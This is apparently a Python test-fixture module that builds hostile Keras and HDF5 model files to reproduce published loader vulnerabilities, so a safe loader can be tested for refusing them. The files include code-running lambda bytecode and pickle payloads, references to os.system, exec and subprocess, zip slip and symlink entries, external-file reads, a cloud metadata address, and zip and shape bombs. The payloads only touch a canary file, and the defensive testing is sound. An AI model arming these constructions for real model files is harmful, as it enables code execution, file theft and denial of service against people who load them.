"""Model files made to attack their reader, rebuilt from what is published of each, without Keras.

Each attack is a function of a folder and of a path: what a payload would create, or read. All start from one
harmless model, so that what is refused is the payload.
"""

from __future__ import annotations

import base64
import json
import marshal
import pickle
import stat
import struct
import types
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
from h5py import h5p, h5s, h5t, h5z

from tests.models.model_files import (
    CONFIG,
    WEIGHTS,
    archive,
    entry,
    function,
    hdf5,
    legacy,
    model,
    weights,
)

Attack = Callable[[Path, Path], Path]

ATTACKS: dict[str, Attack] = {}
"""The attacks by name; each returns the file it wrote into the folder."""


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


def _bytecode(canary: Path) -> dict[str, Any]:
    """A lambda that creates the canary, as Keras keeps it: marshalled, in base64."""
    code = compile(f"lambda x: (open({str(canary)!r}, 'w').close(), x)[1]", "<lambda>", "eval")
    (body,) = (constant for constant in code.co_consts if isinstance(constant, types.CodeType))
    text = base64.encodebytes(marshal.dumps(body)).decode()
    return {"class_name": "__lambda__", "config": {"code": text, "defaults": None, "closure": None}}


@attack
def lambda_in_archive(folder: Path, canary: Path) -> Path:
    """CVE-2024-3660: a Lambda layer's bytecode runs when the layer is called on the symbolic input."""
    return archive(folder, model(entry("Lambda", name="run", function=_bytecode(canary), arguments={})))


@attack
def lambda_in_hdf5(folder: Path, canary: Path) -> Path:
    """CVE-2025-9905: the same in HDF5, where Keras did not heed its safe mode."""
    code = list(_bytecode(canary)["config"].values())
    layer = entry("Lambda", name="run", function=code, function_type="lambda", arguments={})
    return hdf5(folder, legacy(model(layer)))


@attack
def lambda_without_module_in_archive(folder: Path, canary: Path) -> Path:
    """A layer without a module takes Keras' path for HDF5 files inside an archive too."""
    config = model(entry("Lambda", name="run", function=_bytecode(canary), arguments={}))
    del config["config"]["layers"][1]["module"]
    return archive(folder, config)


@attack
def lambda_as_passive_setting(folder: Path, canary: Path) -> Path:
    """In HDF5 files any setting that says it was serialized passively is built as a layer."""
    payload = entry("Lambda", name="run", function=_bytecode(canary)) | {"__passive_serialization__": True}
    return hdf5(folder, legacy(model(name_of_no_matter=payload)))


@attack
def pickled_torch_module(folder: Path, canary: Path) -> Path:
    """CVE-2025-49655: TorchModuleWrapper unpickled what it found."""

    class Payload:
        def __reduce__(self) -> Any:
            return Path.touch, (canary,)

    text = base64.b64encode(pickle.dumps(Payload())).decode()
    layer = entry("TorchModuleWrapper", name="torch")
    layer["config"]["module"] = text
    return archive(folder, model(layer))


@attack
def vocabulary_from_a_path(folder: Path, canary: Path) -> Path:
    """CVE-2025-12058: StringLookup reads any file into the model."""
    return archive(folder, model(entry("StringLookup", name="words", vocabulary=str(canary))))


@attack
def vocabulary_from_an_address(folder: Path, canary: Path) -> Path:
    """CVE-2025-12058: or asks any server (TensorFlow's file layer knows remote ones)."""
    layer = entry("IntegerLookup", name="words", vocabulary="http://192.0.2.1/latest/meta-data")
    return hdf5(folder, legacy(model(layer)))


@attack
def foreign_saved_model(folder: Path, canary: Path) -> Path:
    """CVE-2026-1462: TFSMLayer runs a SavedModel from any path."""
    return archive(folder, model(entry("TFSMLayer", name="graph", filepath=str(canary))))


@attack
def external_storage_in_archive(folder: Path, canary: Path) -> Path:
    """CVE-2026-1669: a dataset whose bytes are those of another file."""
    return archive(folder, change=lambda file: _external(file, "layers/dense/vars/2", canary))


@attack
def external_storage_in_hdf5(folder: Path, canary: Path) -> Path:
    """CVE-2026-1669, likewise."""
    return hdf5(folder, change=lambda file: _external(file, "model_weights/head/secret", canary))


def _external(file: h5py.File, name: str, target: Path) -> None:
    file.create_dataset(name, (4,), np.uint8, external=[(str(target), 0, 4)])


@attack
def external_link(folder: Path, canary: Path) -> Path:
    """CVE-2026-1669, by a link to a group of another HDF5 file."""

    def change(file: h5py.File) -> None:
        file["layers/other"] = h5py.ExternalLink(str(canary), "/")

    return archive(folder, change=change)


@attack
def soft_link(folder: Path, canary: Path) -> Path:
    """A soft link may lead through an external one, or in a circle."""

    def change(file: h5py.File) -> None:
        file["model_weights/loop"] = h5py.SoftLink("/model_weights/loop")

    return hdf5(folder, change=change)


@attack
def virtual_dataset(folder: Path, canary: Path) -> Path:
    """A dataset put together from other files, which is neither link nor external storage."""

    def change(file: h5py.File) -> None:
        layout = h5py.VirtualLayout((4,), np.float32)
        layout[:] = h5py.VirtualSource(str(canary), "secret", (4,))
        file.create_virtual_dataset("layers/dense/vars/2", layout)

    return archive(folder, change=change)


@attack
def shape_bomb_in_archive(folder: Path, canary: Path) -> Path:
    """CVE-2026-0897: a shape of 4 TiB with nothing stored."""
    return archive(
        folder, change=lambda file: file.create_dataset("bomb", (1 << 40,), "f4", chunks=(1 << 20,))
    )


@attack
def shape_bomb_in_hdf5(folder: Path, canary: Path) -> Path:
    """CVE-2026-0897, not even in chunks."""
    return hdf5(folder, change=lambda file: file.create_dataset("bomb", (1 << 20, 1 << 20), "f4"))


@attack
def compressed_shape_bomb(folder: Path, canary: Path) -> Path:
    """64 MiB of zeros that compression stores as 64 kB."""

    def change(file: h5py.File) -> None:
        file.create_dataset("bomb", data=np.zeros(1 << 24, np.float32), compression="gzip")

    return archive(folder, change=change)


@attack
def many_small_shape_bombs(folder: Path, canary: Path) -> Path:
    """Each too small to be suspicious, 200 MiB together."""

    def change(file: h5py.File) -> None:
        for number in range(200):
            file.create_dataset(f"bomb{number}", (1 << 18,), np.float32)

    return archive(folder, change=change)


@attack
def dataset_of_texts(folder: Path, canary: Path) -> Path:
    """Texts of variable length: their size is not in the shape."""
    return hdf5(folder, change=lambda file: file.create_dataset("texts", data=["a", "b"]))


@attack
def filter_from_a_plugin(folder: Path, canary: Path) -> Path:
    """A filter that HDF5 would look for among the machine's shared libraries."""

    def change(file: h5py.File) -> None:
        plan = h5p.create(h5p.DATASET_CREATE)
        plan.set_chunk((4,))
        plan.set_filter(32099, h5z.FLAG_OPTIONAL)  # a number that nobody has registered
        h5py.h5d.create(file.id, b"filtered", h5t.IEEE_F32LE, h5s.create_simple((4,)), plan)

    return archive(folder, change=change)


@attack
def named_type(folder: Path, canary: Path) -> Path:
    """An object that is neither group nor dataset."""

    def change(file: h5py.File) -> None:
        file["type"] = np.dtype("f4")

    return hdf5(folder, change=change)


@attack
def endless_heap(folder: Path, canary: Path) -> Path:
    """A free object of size 0, over which HDF5 1.14 walks for ever when it reads the first text."""
    path = hdf5(folder)
    data = bytearray(path.read_bytes())
    at = data.index(b"GCOL") + 16
    while (header := struct.unpack_from("<H6xQ", data, at))[0]:
        at += 16 + -(-header[1] // 8) * 8
    data[at + 8 : at + 16] = bytes(8)
    path.write_bytes(data)
    return path


@attack
def function_of_a_module(folder: Path, canary: Path) -> Path:
    """CVE-2025-1550: a function of any module, as an activation."""
    return archive(folder, model(activation=function("system", "os")))


@attack
def function_of_builtins(folder: Path, canary: Path) -> Path:
    """CVE-2025-1550, likewise."""
    return archive(folder, model(activation=function("exec", "builtins")))


@attack
def download_by_get_file(folder: Path, canary: Path) -> Path:
    """CVE-2025-8747: Keras' own downloader as the function of a layer."""
    layer = entry("Lambda", name="get", function=function("get_file", "keras.utils"), arguments={})
    return archive(folder, model(layer))


@attack
def safe_mode_switched_off(folder: Path, canary: Path) -> Path:
    """CVE-2025-9906: the switch itself, named in the configuration."""
    switch = function("enable_unsafe_deserialization", "keras.config")
    return archive(folder, model(activation=switch))


@attack
def known_class_of_another_module(folder: Path, canary: Path) -> Path:
    """A known class's name in a module that is imported to find it."""
    return archive(folder, model(entry("Flatten", "antigravity", name="flat2")))


@attack
def known_class_under_another_name(folder: Path, canary: Path) -> Path:
    """The registered name decides which class is built, not the one that is shown."""
    disguised = entry("Flatten", name="flat2") | {"registered_name": "builtins>Lambda"}
    return archive(folder, model(disguised))


@attack
def type_specification(folder: Path, canary: Path) -> Path:
    """Keras imports a module to find the class of a type specification."""
    spec = {"class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess", "config": []}
    return archive(folder, model(kernel_initializer=spec | {"registered_name": None}))


@attack
def type_specification_in_hdf5(folder: Path, canary: Path) -> Path:
    """In HDF5 files they are built while the JSON is decoded."""
    spec = {"class_name": "TypeSpec", "type_spec": "tf.TensorSpec", "serialized": []}
    return hdf5(folder, legacy(model(kernel_initializer=spec)))


@attack
def array_of_enormous_elements(folder: Path, canary: Path) -> Path:
    """NumPy allocates a gigabyte for each element of this type."""
    array = {"class_name": "__numpy__", "config": {"value": ["a", "b"], "dtype": "S1000000000"}}
    return archive(folder, model(entry("Normalization", name="norm", mean=array, variance=1.0)))


@attack
def enormous_layer(folder: Path, canary: Path) -> Path:
    """A layer of 16 GB in a file of 20 kB: Keras makes it before it looks for the weights."""
    return archive(folder, model(entry("Conv2D", name="conv", filters=1 << 30, kernel_size=[2, 2])))


@attack
def names_that_are_no_text(folder: Path, canary: Path) -> Path:
    """A class name that a comparison of names would pass over."""
    return archive(folder, model({"module": "keras.layers", "class_name": ["Lambda"], "config": {}}))


@attack
def archive_path_traversal(folder: Path, canary: Path) -> Path:
    """An entry that is extracted outside the folder ("zip slip")."""
    return _with_entry(archive(folder), f"assets/../../../{canary}")


@attack
def archive_absolute_path(folder: Path, canary: Path) -> Path:
    """Likewise."""
    return _with_entry(archive(folder), str(canary))


@attack
def archive_second_configuration(folder: Path, canary: Path) -> Path:
    """Two entries of one name: which one is checked, and which one is built?"""
    return _with_entry(archive(folder), CONFIG)


@attack
def archive_assets(folder: Path, canary: Path) -> Path:
    """Assets make Keras extract the whole archive."""
    return _with_entry(archive(folder), "assets/_layer/vocabulary.txt")


def _with_entry(path: Path, name: str) -> Path:
    with zipfile.ZipFile(path, "a") as file:
        file.writestr(zipfile.ZipInfo(name), b"{}")
    return path


@attack
def archive_symbolic_link(folder: Path, canary: Path) -> Path:
    """The configuration is a link to another file."""
    path = folder / "model.keras"
    link = zipfile.ZipInfo(CONFIG)
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "w") as file:
        file.writestr(link, str(canary))
        file.writestr(WEIGHTS, weights())
    return path


@attack
def archive_encrypted(folder: Path, canary: Path) -> Path:
    """An entry that zipfile would ask a password for."""
    path = archive(folder)
    data = bytearray(path.read_bytes())
    directory = data.index(b"PK\x01\x02")
    data[directory + 8] |= 1  # the general purpose flags of the directory's first entry
    path.write_bytes(data)
    return path


@attack
def zip_bomb(folder: Path, canary: Path) -> Path:
    """A configuration that unpacks to 1,000 times its size."""
    path = folder / "model.keras"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(CONFIG, b" " * (16 << 20))
        file.writestr(WEIGHTS, weights())
    return path


@attack
def zip_bomb_of_weights(folder: Path, canary: Path) -> Path:
    """Weights that unpack to 1,000 times their size."""
    path = folder / "model.keras"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(CONFIG, json.dumps(model()))
        file.writestr(WEIGHTS, bytes(16 << 20))
    return path


@attack
def configuration_too_large(folder: Path, canary: Path) -> Path:
    """Stored plainly, and larger than any model's."""
    path = folder / "model.keras"
    with zipfile.ZipFile(path, "w") as file:
        file.writestr(CONFIG, b" " * (33 << 20))
        file.writestr(WEIGHTS, weights())
    return path
